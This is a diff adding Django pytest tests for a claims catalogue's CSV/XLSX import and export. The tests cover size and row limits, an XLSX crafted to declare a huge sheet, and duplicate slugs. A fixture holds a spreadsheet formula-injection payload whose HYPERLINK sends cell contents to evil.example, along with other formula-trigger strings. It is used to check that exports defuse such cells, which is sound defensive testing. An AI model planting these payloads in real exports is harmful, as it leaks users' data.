@@ -580,3 +580,222 @@ def test_it_keeps_dates_through_an_import(client, editor, world):
     import_file(client, as_csv(header, [[*claim_row("dated"), "2024-04-04"]]))
 
     assert Claim.objects.get(slug="dated").made_on == date(2024, 4, 4)
+
+
+# --- Files too big or too odd to read ---------------------------------------------------------
+
+
+def form_errors(response):
+    return [str(error) for error in response.context["form"].errors.get("import_file", [])]
+
+
+def test_it_refuses_an_oversized_file_before_reading_it(client, editor, world, settings):
+    settings.IMPORT_MAX_FILE_BYTES = 1_000
+    client.force_login(editor)
+
+    response = preview(client, as_csv(CLAIM_COLUMNS, [claim_row(f"c{n}") for n in range(20)]))
+
+    assert response.status_code == 200
+    assert form_errors(response) == [
+        "The file is 1.6\xa0KB; at most 1000\xa0bytes can be imported. Split it into smaller files."
+    ]
+    assert response.context.get("confirm_form") is None
+    assert not Claim.objects.exists()
+
+
+def test_it_refuses_more_rows_than_the_limit(client, editor, world, settings):
+    settings.IMPORT_MAX_ROWS = 3
+    client.force_login(editor)
+
+    response = preview(client, as_csv(CLAIM_COLUMNS, [claim_row(f"c{n}") for n in range(4)]))
+
+    assert form_errors(response) == [
+        "The file has 4 rows; at most 3 can be imported at once. Split it into smaller files."
+    ]
+
+
+def xlsx_declaring(dimension):
+    """A small XLSX whose first sheet declares `dimension`: a few kilobytes that, read cell by
+    cell, would be a million rows of 16,384 columns."""
+    import zipfile
+
+    content = tablib.Dataset(*GOOD_ROWS, headers=CLAIM_COLUMNS).export("xlsx")
+    packed, unpacked = io.BytesIO(), zipfile.ZipFile(io.BytesIO(content))
+    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
+        for member in unpacked.infolist():
+            data = unpacked.read(member)
+            if member.filename == "xl/worksheets/sheet1.xml":
+                start = data.index(b"<dimension")
+                end = data.index(b"/>", start) + 2
+                data = data[:start] + f'<dimension ref="{dimension}"/>'.encode() + data[end:]
+            archive.writestr(member, data)
+    return packed.getvalue()
+
+
+def test_it_refuses_an_xlsx_declaring_a_huge_sheet_before_reading_its_rows(
+    client, editor, world, monkeypatch
+):
+    from openpyxl.worksheet._read_only import ReadOnlyWorksheet
+
+    def no_rows(*args, **kwargs):
+        raise AssertionError("a row was read")
+
+    monkeypatch.setattr(ReadOnlyWorksheet, "_cells_by_row", no_rows)
+    client.force_login(editor)
+
+    response = preview(
+        client, xlsx_declaring("A1:XFD1048576"), file_format=XLSX_FORMAT, name="claims.xlsx"
+    )
+
+    assert form_errors(response) == [
+        "The sheet has 16,384 columns; at most 50 can be imported. "
+        "Delete the columns that are not part of the data."
+    ]
+
+
+def test_it_refuses_a_file_that_is_not_an_xlsx(client, editor, world):
+    client.force_login(editor)
+
+    response = preview(client, b"slug,title\n", file_format=XLSX_FORMAT, name="claims.xlsx")
+
+    assert form_errors(response) == ["This is not an XLSX file: choose the format it is in."]
+
+
+# --- What a file may be missing or repeat -----------------------------------------------------
+
+
+def test_it_says_a_file_without_a_slug_column_cannot_be_matched(client, editor, world):
+    client.force_login(editor)
+
+    response = preview(client, as_csv(["title", "statement"], [["A title", "A statement."]]))
+
+    result = response.context["result"]
+    assert [str(error.error) for error in result.base_errors] == [
+        "The file has no “slug” column, which says which row each line is. "
+        "Its columns are: title, statement."
+    ]
+    assert result.row_errors() == []
+    assert b"Traceback" not in response.content
+    assert b"site-packages" not in response.content
+
+
+def test_it_refuses_two_rows_with_the_same_slug_and_names_both(client, editor, world):
+    client.force_login(editor)
+    rows = [claim_row("one"), claim_row("two"), claim_row("one", title="Another title")]
+
+    response = preview(client, as_csv(CLAIM_COLUMNS, rows))
+
+    assert [str(error.error) for error in response.context["result"].base_errors] == [
+        "Rows 1 and 3 have the same slug “one”: each may appear once in a file."
+    ]
+    assert response.context.get("confirm_form") is None
+    assert not Claim.objects.exists()
+
+
+def test_it_reads_an_empty_optional_text_cell_of_an_xlsx_as_empty(client, editor, world):
+    columns = [*CLAIM_COLUMNS, "outcome", "context_note"]
+    rows = [[*claim_row("one"), None, None]]
+    workbook = tablib.Dataset(*rows, headers=columns).export("xlsx")
+    client.force_login(editor)
+
+    import_file(client, workbook, file_format=XLSX_FORMAT, name="claims.xlsx")
+
+    assert Claim.objects.values_list("outcome", "context_note").get() == ("", "")
+
+
+def test_it_recreates_claims_from_its_own_xlsx_export(client, editor, catalogue):
+    before = fields_of(Claim.objects.all())
+    client.force_login(editor)
+    exported = export(client, file_format=XLSX_FORMAT).content
+    Claim.objects.all().delete()
+
+    import_file(client, exported, file_format=XLSX_FORMAT, name="claims.xlsx")
+
+    assert fields_of(Claim.objects.all()) == before
+
+
+# --- Exports are data, never formulas ---------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+
+
+@pytest.fixture
+def hostile_catalogue(world, fda):
+    clinic = make_clinic(slug="evil", name=FORMULA, city="+44 20", note="@SUM(1)")
+    treatment = make_treatment(
+        slug="evil-shot", name="-1+1", product="\tTab", source=world["treatment"].source
+    )
+    make_status(treatment, fda, Status.NOT_APPROVED, explanation=FORMULA)
+    claim = make_claim(
+        slug="evil-claim",
+        title=FORMULA,
+        statement="=1+1",
+        outcome="\r=2",
+        clinic=clinic,
+        treatment=treatment,
+        evidence_level=world["level"],
+    )
+    claim.citations.update(title=FORMULA, publisher="@evil")
+    return claim
+
+
+def cells(response, file_format):
+    if file_format == CSV_FORMAT:
+        return [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    from openpyxl import load_workbook
+
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    return [cell for row in sheet.iter_rows() for cell in row]
+
+
+@pytest.mark.parametrize("file_format", [CSV_FORMAT, XLSX_FORMAT])
+@pytest.mark.parametrize("model", ["claim", "citation", "clinic", "treatment", "regulatorystatus"])
+def test_it_exports_no_cell_a_spreadsheet_would_run(
+    client, superuser, hostile_catalogue, model, file_format
+):
+    from claims.cells import FORMULA_TRIGGERS
+
+    client.force_login(superuser)
+
+    exported = cells(export(client, model, file_format), file_format)
+
+    if file_format == XLSX_FORMAT:
+        assert [cell.coordinate for cell in exported if cell.data_type == "f"] == []
+        exported = [str(cell.value) for cell in exported if cell.value is not None]
+    assert [cell for cell in exported if cell.startswith(FORMULA_TRIGGERS)] == []
+    assert any(cell.startswith("'") for cell in exported)
+
+
+def test_it_reimports_its_defused_export_as_it_was(client, superuser, hostile_catalogue):
+    client.force_login(superuser)
+    exported = export(client, "clinic").content
+
+    response = preview(client, exported, model="clinic")
+
+    assert response.context["result"].totals["skip"] >= 1
+
+
+def test_it_looks_each_reference_up_once_and_bumps_the_version_once_per_import(
+    client, editor, world
+):
+    from django.db import connection
+    from django.test.utils import CaptureQueriesContext
+
+    client.force_login(editor)
+    rows = [claim_row(f"c{n}") for n in range(20)]
+
+    with CaptureQueriesContext(connection) as queries:
+        preview(client, as_csv(CLAIM_COLUMNS, rows))
+
+    statements = [query["sql"] for query in queries.captured_queries]
+    assert (
+        len(
+            [
+                sql
+                for sql in statements
+                if 'FROM "claims_clinic" WHERE' in sql and '"claims_clinic"."slug"' in sql
+            ]
+        )
+        == 1
+    )
+    assert len([sql for sql in statements if "claims_dataversion" in sql]) <= 2
